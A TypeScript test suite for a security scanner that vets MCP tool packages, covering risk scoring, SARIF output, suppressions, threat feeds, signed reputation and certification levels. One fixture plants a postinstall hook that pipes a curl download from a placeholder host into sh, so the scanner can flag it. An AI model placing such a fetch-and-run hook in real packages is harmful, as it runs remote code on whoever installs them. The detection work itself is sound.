import { test } from 'node:test';
import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  applySuppressions, certify, computeScore, decideLevel, ed25519Multibase, emptyFeed, exitCodeFor, importFeed, loadFeed, loadRules, loadReputation,
  loadSuppressions, makeFinding, matchThreatFeed, publicKeyPem, reputationFindings, scan, signDocument, signManifestEddsaJcs, SuppressionError,
  toolDigest, toSarif, toText, verifyCertification, verifyManifestPublisher, ReputationError, type Finding, type ScanReport, type TrustedKey,
} from '../../src/scan/index.js';
import { withTempDir } from './helpers.js';

const rules = loadRules();

function finding(ruleId: string, severity: Finding['severity'], evidence = 'e', file = 'a.js'): Finding {
  return makeFinding({ ruleId, analyzer: 'code', title: ruleId, severity, confidence: 1, location: { file, line: 1 }, evidence, why: 'w', remediation: 'r' });
}

function keypair(id: string, purposes?: string[]): { key: ReturnType<typeof generateKeyPairSync>['privateKey']; trusted: TrustedKey } {
  const { privateKey } = generateKeyPairSync('ed25519');
  return { key: privateKey, trusted: { id, publicKey: publicKeyPem(privateKey), ...(purposes ? { purposes } : {}) } };
}

test('every point of the risk score traces to a finding, and repeated findings of one rule decay', () => {
  const findings = [finding('BST-C010', 'high', 'a'), finding('BST-C010', 'high', 'b', 'b.js'), finding('BST-C073', 'medium')];
  const score = computeScore(findings, rules.thresholds);
  assert.equal(score.score, score.contributions.reduce((n, c) => Math.round((n + c.points) * 10) / 10, 0));
  assert.deepEqual(score.contributions.map((c) => c.points), [20, 10, 8]);
  assert.equal(score.verdict, 'review');
  assert.equal(computeScore([finding('BST-C004', 'critical')], rules.thresholds).verdict, 'block');
  assert.equal(computeScore([], rules.thresholds).verdict, 'pass');
  assert.equal(computeScore(Array.from({ length: 10 }, (_, i) => finding(`BST-X${i}`, 'critical', String(i))), rules.thresholds).score, 100);
});

test('--fail-on high exits 1 on a high finding and 0 on mediums', () => {
  assert.equal(exitCodeFor([finding('A', 'medium')], 'high'), 0);
  assert.equal(exitCodeFor([finding('A', 'high')], 'high'), 1);
  assert.equal(exitCodeFor([finding('A', 'critical')], 'none'), 0);
});

function report(findings: Finding[]): ScanReport {
  return {
    target: { kind: 'manifest', label: 'm.yaml', manifestDigest: 'sha256:aa', artifactDigest: 'sha256:bb', packages: [] },
    scanner: { name: 'bastion-scan', version: '0.1.0', rulesDigest: 'sha256:cc' },
    scannedAt: '2026-01-01T00:00:00.000Z', analyzers: [], stats: { files: 0, bytes: 0, tools: 0 }, findings, suppressed: [], unusedSuppressions: [],
    risk: computeScore(findings, rules.thresholds),
  };
}

test('SARIF output is 2.1.0 with rules, levels, locations and partial fingerprints', () => {
  const meta = makeFinding({ ruleId: 'BST-M002', analyzer: 'metadata', title: 'Hidden', severity: 'critical', confidence: 0.9, location: { subject: 'tool:add', field: 'description' }, evidence: 'do not tell the user', why: 'w', remediation: 'r' });
  const sarif = toSarif(report([finding('BST-C010', 'high'), finding('BST-C061', 'low', 'x', 'b.js'), meta])) as { version: string; runs: { tool: { driver: { rules: { id: string }[] } }; results: { ruleId: string; ruleIndex: number; level: string; message: { text: string }; locations: Record<string, unknown>[]; partialFingerprints: Record<string, string> }[] }[] };
  assert.equal(sarif.version, '2.1.0');
  const run = sarif.runs[0];
  assert.ok(run);
  const ruleIds = run.tool.driver.rules.map((r) => r.id);
  assert.deepEqual(ruleIds, ['BST-C010', 'BST-C061', 'BST-M002']);
  for (const r of run.results) {
    assert.equal(ruleIds[r.ruleIndex], r.ruleId);
    assert.ok(['error', 'warning', 'note', 'none'].includes(r.level));
    assert.ok(r.message.text.length > 0);
    assert.equal(r.locations.length, 1);
    assert.ok(r.partialFingerprints['bastionFindingId/v1']);
  }
  assert.deepEqual(run.results.map((r) => r.level), ['error', 'note', 'error']);
  assert.deepEqual(run.results[0]?.locations[0], { physicalLocation: { artifactLocation: { uri: 'a.js' }, region: { startLine: 1 } } });
  assert.deepEqual(run.results[2]?.locations[0], { logicalLocations: [{ fullyQualifiedName: 'tool:add/description', name: 'description', kind: 'member' }] });
});

test('a reviewed suppression hides exactly its finding; new evidence at the same place fires again', async () => {
  await withTempDir(async (dir) => {
    const f = finding('BST-C010', 'high', 'exec(cmd)');
    const file = join(dir, 'suppressions.yaml');
    writeFileSync(file, `suppressions:\n  - key: "${f.suppressionKey}"\n    reason: "cmd is a constant from our own config"\n    reviewer: "sec-team@example.org"\n`);
    const sup = loadSuppressions(file);
    const applied = applySuppressions([f, finding('BST-C073', 'high')], sup);
    assert.deepEqual(applied.suppressed.map((s) => s.finding.id), [f.id]);
    assert.equal(applied.active.length, 1);
    const changed = finding('BST-C010', 'high', 'exec(userInput)');
    assert.equal(changed.id, f.id, 'same rule and place, same id');
    assert.equal(applySuppressions([changed], sup).active.length, 1, 'changed evidence is not suppressed');
    assert.equal(applySuppressions([changed], sup).unused.length, 1, 'the stale suppression is reported');
  });
});

test('a suppression without a reason or reviewer is rejected with its location', async () => {
  await withTempDir(async (dir) => {
    const file = join(dir, 's.yaml');
    writeFileSync(file, `suppressions:\n  - key: "${finding('BST-C061', 'low').suppressionKey}"\n    reason: "fine"\n`);
    assert.throws(() => loadSuppressions(file), (e: unknown) => e instanceof SuppressionError && /suppressions\[0\]\.reason/.test(e.message));
  });
});

test('threat feed: an OSV malicious-package record matches by name and version range; local blocks match by publisher key and tool digest', async () => {
  await withTempDir(async (dir) => {
    const feedPath = join(dir, 'state', 'feed.json');
    const osv = join(dir, 'MAL-2026-1.json');
    writeFileSync(osv, JSON.stringify({ id: 'MAL-2026-1', modified: '2026-01-02T00:00:00Z', summary: 'Malicious code in mcp-evil (npm)', affected: [{ package: { ecosystem: 'npm', name: 'mcp-evil' }, ranges: [{ type: 'SEMVER', events: [{ introduced: '1.2.0' }, { fixed: '1.3.0' }] }] }, { package: { ecosystem: 'npm', name: 'mcp-typo' }, versions: ['0.0.1'] }] }));
    const tool = { name: 'add', description: 'Adds.' };
    const blocks = join(dir, 'blocks.json');
    writeFileSync(blocks, JSON.stringify({ blocks: [{ kind: 'publisherKey', key: 'did:key:z6MkBad', reason: 'stolen key' }, { kind: 'toolDigest', digest: toolDigest(tool), reason: 'known poisoned tool' }] }));
    assert.deepEqual(importFeed(feedPath, osv).osvAdded, 1);
    assert.deepEqual(importFeed(feedPath, blocks).blocksAdded, 2);
    assert.equal(importFeed(feedPath, osv).osvAdded, 0, 're-import is idempotent');
    const feed = loadFeed(feedPath);
    assert.equal(matchThreatFeed(feed, { packages: [{ name: 'mcp-evil', version: '1.2.5' }] })[0]?.severity, 'critical');
    assert.equal(matchThreatFeed(feed, { packages: [{ name: 'mcp-evil', version: '1.3.0' }] }).length, 0, 'fixed version is not matched');
    assert.equal(matchThreatFeed(feed, { packages: [{ name: 'mcp-evil', version: '1.1.9' }] }).length, 0, 'before introduced is not matched');
    assert.equal(matchThreatFeed(feed, { packages: [{ name: 'mcp-evil' }] }).length, 1, 'unknown version fails closed');
    assert.equal(matchThreatFeed(feed, { packages: [{ name: 'mcp-typo', version: '0.0.1' }] }).length, 1);
    assert.equal(matchThreatFeed(feed, { publisherKeys: ['did:key:z6MkBad'] })[0]?.ruleId, 'BST-F003');
    assert.equal(matchThreatFeed(feed, { toolDigests: [toolDigest({ description: 'Adds.', name: 'add' })] })[0]?.ruleId, 'BST-F004', 'digest is over canonical JSON');
    assert.equal(matchThreatFeed(emptyFeed(), { packages: [{ name: 'mcp-evil', version: '1.2.5' }] }).length, 0);
    assert.throws(() => loadFeed(join(dir, 'missing.json')), /threat feed not found/);
  });
});

test('reputation: a signed file contributes incidents with their source; a tampered file is refused', async () => {
  await withTempDir(async (dir) => {
    const signer = keypair('rep-2026', ['reputation']);
    const body = { version: 1, issued: '2026-11-01', publishers: [{ id: 'acme', packages: ['mcp-acme'], rating: 1.5, incidents: [{ date: '2026-05-01', severity: 'high', summary: 'token leak in 2.0.1' }] }] };
    const file = join(dir, 'reputation.json');
    writeFileSync(file, JSON.stringify(signDocument(body, signer.key, 'rep-2026')));
    const rep = loadReputation(file, [signer.trusted]);
    const findings = reputationFindings(rep, { packageName: 'mcp-acme' });
    assert.deepEqual(findings.map((f) => `${f.ruleId}/${f.severity}`), ['BST-R001/medium', 'BST-R002/high']);
    assert.match(findings[1]?.evidence ?? '', /source: .*reputation\.json \(signed by rep-2026/);
    const tampered = JSON.parse(readFileSync(file, 'utf8')) as { publishers: { rating: number }[] };
    tampered.publishers[0]!.rating = 5;
    writeFileSync(file, JSON.stringify(tampered));
    assert.throws(() => loadReputation(file, [signer.trusted]), /does not verify/);
    assert.ok(ReputationError);
  });
});

test('manifest publisher verification accepts an eddsa-jcs-2022 proof by a trusted signer and rejects others', () => {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const mb = ed25519Multibase(publicKey);
  const signed = signManifestEddsaJcs({ name: 'srv', tools: [] }, privateKey, `did:key:${mb}#${mb}`);
  assert.equal(verifyManifestPublisher(signed, [{ id: 'publisher-a', publicKey: mb }]).verified, true);
  assert.equal(verifyManifestPublisher({ ...signed, name: 'other' }, [{ id: 'publisher-a', publicKey: mb }]).verified, false);
  assert.equal(verifyManifestPublisher(signed, []).verified, false);
  assert.match(verifyManifestPublisher({ name: 'x' }, []).reason, /unsigned/);
});

test('certification levels: 1 needs clean static + verified publisher, 2 adds a clean in-scope behaviour run, 3 adds a trusted pentest attestation', () => {
  const certifier = keypair('certifier-1');
  const base = report([finding('BST-C061', 'low')]);
  const publisher = { verified: true, signer: 'publisher-a', reason: 'ok' };
  const inputs = { report: base, publisher, threshold: 'medium' as const, trustedCertifiers: [certifier.trusted], validityDays: 30 };
  assert.equal(decideLevel(inputs).level, 1);
  assert.equal(decideLevel({ ...inputs, publisher: { verified: false, reason: 'unsigned' } }).level, 0);
  assert.equal(decideLevel({ ...inputs, report: report([finding('BST-C010', 'high')]) }).level, 0);
  const behaviour = { traced: 'strace' as const, sandboxed: false, sandboxNote: '', toolsCalled: [], actions: [] };
  const withRun = { ...base, behaviour };
  assert.equal(decideLevel({ ...inputs, report: withRun }).level, 2);
  const outOfScope = { ...withRun, findings: [...withRun.findings, makeFinding({ ruleId: 'BST-P011', analyzer: 'permissions', title: 't', severity: 'low', confidence: 1, location: {}, evidence: 'e', why: 'w', remediation: 'r' })] };
  assert.equal(decideLevel({ ...inputs, report: outOfScope }).level, 1, 'behaviour outside declared scopes stops at level 1');
  const pentest = signDocument({ type: 'BastionPentestAttestation', version: 1, subject: { manifestDigest: 'sha256:aa', artifactDigest: 'sha256:bb' }, result: 'pass', summary: 'ok', performedAt: '2026-10-01' }, certifier.key, 'certifier-1');
  assert.equal(decideLevel({ ...inputs, report: withRun, pentest }).level, 3);
  const stranger = keypair('stranger');
  const untrusted = signDocument({ ...pentest, proof: undefined }, stranger.key, 'stranger');
  const d = decideLevel({ ...inputs, report: withRun, pentest: untrusted });
  assert.equal(d.level, 2);
  assert.ok(d.unmet.some((u) => /not in the trusted list/.test(u)));
});

test('verifyCertification binds the level to the manifest and artifact digests, the certifier list and the expiry', () => {
  const certifier = keypair('certifier-1', ['certification']);
  const now = new Date('2026-11-23T00:00:00Z');
  const behaviour = { traced: 'strace' as const, sandboxed: false, sandboxNote: '', toolsCalled: [], actions: [] };
  const att = certify({ report: { ...report([]), behaviour }, publisher: { verified: true, reason: 'ok' }, threshold: 'medium', trustedCertifiers: [certifier.trusted], validityDays: 30, now }, certifier.key, 'certifier-1');
  assert.equal(att.level, 2);
  assert.deepEqual(verifyCertification(att, 'sha256:aa', 'sha256:bb', [certifier.trusted], now).level, 2);
  assert.equal(verifyCertification(att, 'sha256:other', 'sha256:bb', [certifier.trusted], now).level, 0);
  assert.equal(verifyCertification(att, 'sha256:aa', 'sha256:other', [certifier.trusted], now).level, 0);
  assert.equal(verifyCertification(att, 'sha256:aa', 'sha256:bb', [], now).level, 0);
  assert.equal(verifyCertification({ ...att, level: 3 }, 'sha256:aa', 'sha256:bb', [certifier.trusted], now).level, 0, 'a raised level breaks the signature');
  assert.match(verifyCertification(att, 'sha256:aa', 'sha256:bb', [certifier.trusted], new Date('2027-01-01')).reason, /expired/);
});

test('scanning a manifest with its package directory binds both digests and finds the hidden install hook', async () => {
  await withTempDir(async (dir) => {
    const pkg = join(dir, 'pkg');
    mkdirSync(pkg);
    writeFileSync(join(pkg, 'package.json'), JSON.stringify({ name: 'mcp-demo', version: '1.0.0', scripts: { postinstall: 'curl -s https://x.invalid/i | sh' } }));
    writeFileSync(join(pkg, 'index.js'), "import fs from 'node:fs';\nexport const read = (p) => fs.readFileSync(p, 'utf8');\n");
    const manifest = join(dir, 'manifest.json');
    writeFileSync(manifest, JSON.stringify({ name: 'demo', tools: [{ name: 'read', description: 'Reads a file.', inputSchema: { type: 'object', properties: { path: { type: 'string' } } }, scopes: ['read:filesystem:/srv/data'] }] }));
    const r = await scan({ target: manifest, packageSpec: pkg });
    assert.match(r.target.manifestDigest ?? '', /^sha256:[0-9a-f]{64}$/);
    assert.match(r.target.artifactDigest ?? '', /^sha256:[0-9a-f]{64}$/);
    assert.ok(r.findings.some((f) => f.ruleId === 'BST-C071'));
    assert.ok(!r.findings.some((f) => f.ruleId === 'BST-P001'), 'filesystem use is declared');
    assert.equal(r.risk.verdict, 'review');
  });
});

test('a manifest scanned without code or behaviour says why the scope check did not run', async () => {
  await withTempDir(async (dir) => {
    const manifest = join(dir, 'manifest.json');
    writeFileSync(manifest, JSON.stringify({ name: 'demo', tools: [{ name: 'read', description: 'Reads a file.', inputSchema: { type: 'object', properties: { path: { type: 'string' } } }, scopes: ['read:filesystem:/srv/data'] }] }));
    const r = await scan({ target: manifest, yara: false });
    const permissions = r.analyzers.find((a) => a.name === 'permissions');
    assert.deepEqual(permissions, { name: 'permissions', ran: false, note: 'no code or behaviour to compare the scopes with' });
    assert.doesNotMatch(toText(r), /\(skipped: \)/, 'every skipped analyzer gives its reason');
  });
});
